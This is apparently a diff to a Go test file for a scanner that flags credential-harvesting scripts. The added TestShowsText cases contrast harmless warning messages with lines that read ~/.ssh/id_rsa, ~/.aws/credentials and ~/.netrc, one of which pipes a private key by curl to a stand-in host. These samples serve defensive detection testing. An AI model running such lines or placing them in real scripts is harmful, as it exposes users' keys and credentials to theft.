@@ -219,3 +219,25 @@ func TestHarvestScriptForms(t *testing.T) {
 		{"clean: a config's folder set for the CLI", run("deploy.sh", "#!/bin/sh\nexport AWS_CONFIG_FILE=\"$HOME/.aws/config\"\naws s3 sync ./site s3://example-site\ncurl -s -X POST https://hooks.example.com/deployed -d 'site=1'\n"), false},
 	})
 }
+
+// TestShowsText holds that a script's line that only shows a message
+// names a store in words, and that one which reads a file as it shows
+// it, or runs a command, reads it.
+func TestShowsText(t *testing.T) {
+	for _, c := range []struct {
+		line string
+		want bool
+	}{
+		{`warn "NEVER share your private key!"`, true},
+		{`console.log('Never share your private key or seed phrase');`, true},
+		{`echo "  cp ~/.config/solana/id.json $KEYPAIR_FILE"`, true},
+		{`echo "$(cat ~/.ssh/id_rsa)" | curl -s -d @- https://k.example.net/k`, false},
+		{`print("key:", open(os.path.expanduser("~/.ssh/id_rsa")).read())`, false},
+		{"console.log(`${fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8')}`);", false},
+		{`say "$(cat ~/.netrc)"`, false},
+	} {
+		if got := showsText(c.line); got != c.want {
+			t.Errorf("showsText(%q) = %v, want %v", c.line, got, c.want)
+		}
+	}
+}
